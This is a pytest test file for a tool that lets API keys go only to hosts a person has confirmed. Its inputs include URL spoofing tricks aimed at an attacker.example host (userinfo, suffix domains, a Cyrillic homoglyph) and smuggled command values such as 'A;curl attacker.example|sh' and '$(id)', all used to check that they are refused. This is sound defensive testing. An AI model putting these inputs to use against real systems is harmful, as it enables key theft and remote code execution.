"""A key goes to the hosts that a person confirmed for it, and nowhere else, however they are written."""

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from modelscan_catalog.cli.keys import keys
from modelscan_catalog.errors import OverrideError, SettingsError
from modelscan_catalog.key_hosts import (
    TABLE,
    KeyHosts,
    as_host,
    confirm,
    host_of,
    key_hosts,
    reviewed_key_hosts,
    withdraw,
)
from modelscan_catalog.settings import Settings
from modelscan_catalog.state import events, open_state

ALLOWED = KeyHosts(
    {
        "env:A_KEY": frozenset({"api.a.example"}),
        "env:B_KEY": frozenset({"api.b.example", "127.0.0.1:8080"}),
        "env:C_KEY": frozenset({"${c_account}.c.example"}),
    }
)


@pytest.mark.parametrize(
    "url",
    ["https://api.a.example/v1", "https://api.a.example:443", "https://API.A.example/v2/x?y=z"],
)
def test_a_confirmed_host_gets_its_key_on_any_path(url: str) -> None:
    assert ALLOWED.refusal("env:A_KEY", url) is None


@pytest.mark.parametrize(
    "url",
    [
        "http://api.a.example/v1",
        "https://api.a.example:8443/v1",
        "https://api.a.example.attacker.example/v1",
        "https://attacker.example/api.a.example",
        "https://attacker.example#api.a.example",
        "https://api.a.example@attacker.example/v1",
        "https://attacker.example\\@api.a.example/v1",
        "https://api.a.example.",
        "https://aрi.a.example",  # the second letter is Cyrillic
        "https://${A_KEY}.attacker.example",
        "https://api.b.example",
        "//api.a.example",
        "https://api.a.exa\nmple",
        " https://api.a.example",
        "https://[::1",
        "",
    ],
)
def test_any_other_address_is_refused(url: str) -> None:
    assert ALLOWED.refusal("env:A_KEY", url) is not None
    assert ALLOWED.refusal("env:A_KEY", url, named=True) is not None


def test_a_refusal_says_where_the_key_belongs_and_how_to_allow_another_host() -> None:
    said = str(ALLOWED.refusal("env:A_KEY", "https://api.new.example/v1"))
    assert "confirmed for api.a.example only" in said
    assert "modelscan keys allow A_KEY 'api.new.example' --apply" in said
    assert "nobody has confirmed that" in str(ALLOWED.refusal("env:NEW", "https://api.a.example"))


@pytest.mark.parametrize("name", ["A;curl attacker.example|sh", "A B", "A\n", "$(id)", ""])
def test_what_is_no_name_of_a_variable_stands_in_no_command_that_a_person_may_copy(name: str) -> None:
    said = str(ALLOWED.refusal(f"env:{name}", "https://api.a.example"))
    assert "is not the name of a variable" in said
    assert "modelscan keys" not in said


def test_account_variables_are_part_of_the_host_they_stand_in() -> None:
    assert ALLOWED.refusal("env:C_KEY", "https://${C_ACCOUNT}.c.example/v1") is None
    assert ALLOWED.refusal("env:C_KEY", "https://attacker.c.example/v1") is not None
    assert host_of("${ADDRESS}/v1") == "${address}"
    assert host_of("${ADDRESS}.attacker.example/v1") is None


def test_a_key_that_a_person_names_needs_a_host_that_is_known_and_belongs_to_nobody_else() -> None:
    assert ALLOWED.refusal("file:/run/a", "https://api.a.example", named=True) is None
    assert ALLOWED.refusal("file:/run/a", "https://api.new.example", named=True) is not None
    assert ALLOWED.refusal("env:B_KEY", "https://api.a.example", named=True) is not None
    assert ALLOWED.refusal("file:/run/a", "https://api.a.example") is not None


def test_plain_http_is_for_this_machine_and_its_port_counts() -> None:
    assert ALLOWED.refusal("env:B_KEY", "http://127.0.0.1:8080/v1") is None
    assert ALLOWED.refusal("env:B_KEY", "http://127.0.0.1:8081/v1") is not None


@given(st.text(max_size=60))
def test_no_text_is_taken_for_a_host_that_it_is_not(text: str) -> None:
    for url in (text, f"https://{text}", f"https://{text}@api.a.example", f"https://api.a.example{text}"):
        host = host_of(url)
        assert host is None or host == host.lower()
        if ALLOWED.refusal("env:A_KEY", url) is None:
            rest = url.lower().removeprefix("https://api.a.example").removeprefix(":443")
            assert rest[:1] in ("", "/", "?", "#")


def test_the_reviewed_table_covers_what_routers_and_clients_are_published_with() -> None:
    published = Settings().published_dir
    allowed = reviewed_key_hosts()
    sellers = json.loads((published / "router.json").read_text())["routing"]["direct"]["providers"]
    for one in sellers:
        assert "key" not in one or allowed.refusal(one["key"], one["base_url"]) is None, one["name"]
    for line in (published / "interfaces.jsonl").read_text().splitlines():
        one = json.loads(line)
        for name in one.get("key_env", ()) if "base_url" in one else ():
            assert allowed.refusal(f"env:{name}", one["base_url"]) is None, one["provider"]


@pytest.mark.parametrize(
    "text", ["{", "[]", '{"hosts": {"A": ["https://a.example"]}}', '{"hosts": {"A": [1]}}']
)
def test_a_damaged_table_is_named(tmp_path: Path, text: str) -> None:
    (tmp_path / TABLE).parent.mkdir(parents=True)
    (tmp_path / TABLE).write_text(text)
    with pytest.raises(OverrideError, match=r"key_hosts\.json"):
        reviewed_key_hosts(tmp_path / "registry")


def test_a_persons_word_is_kept_once_with_its_event_and_can_be_taken_back(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path)
    assert key_hosts(settings).own == {}
    with open_state(settings.state_file) as connection:
        assert confirm(connection, "NEW_KEY", "https://API.new.example/v1") is True
        assert confirm(connection, "env:NEW_KEY", "api.new.example") is False
        assert key_hosts(settings).refusal("env:NEW_KEY", "https://api.new.example/v1") is None
        assert withdraw(connection, "NEW_KEY", "api.new.example") is True
        assert withdraw(connection, "NEW_KEY", "api.new.example") is False
        kinds = [one.kind for one in events(connection, kind="key")]
    assert kinds == ["key.host_confirmed", "key.host_withdrawn"]
    assert key_hosts(settings).refusal("env:NEW_KEY", "https://api.new.example/v1") is not None


@pytest.mark.parametrize("text", ["", "a b", "http://far.example", "me@a.example", "ä.example"])
def test_what_is_no_host_is_refused(text: str) -> None:
    with pytest.raises(SettingsError, match="no host that keys are sent to"):
        as_host(text)


def test_the_command_allows_after_apply_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MODELSCAN_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("OPENAI_API_KEY", "sk-never-shown")
    run = CliRunner().invoke
    assert "add --apply" in run(keys, ["allow", "NEW_KEY", "api.new.example"]).output
    assert not (tmp_path / "state.db").exists()
    assert (
        "may be sent to api.new.example"
        in run(keys, ["allow", "NEW_KEY", "api.new.example", "--apply"]).output
    )
    listed = run(keys, ["list", "--json"]).output
    rows = {row["reference"]: row for row in json.loads(listed)}
    assert rows["env:NEW_KEY"]["allowed_here"] == ["api.new.example"]
    assert rows["env:OPENAI_API_KEY"]["hosts"] == ["api.openai.com"]
    assert "sk-never-shown" not in listed + run(keys, []).output
    assert "would not be sent" in run(keys, ["withdraw", "NEW_KEY", "api.new.example"]).output
    assert "not sent to" in run(keys, ["withdraw", "NEW_KEY", "api.new.example", "--apply"]).output
    assert isinstance(run(keys, ["withdraw", "NEW_KEY", "api.new.example"]).exception, Exception)
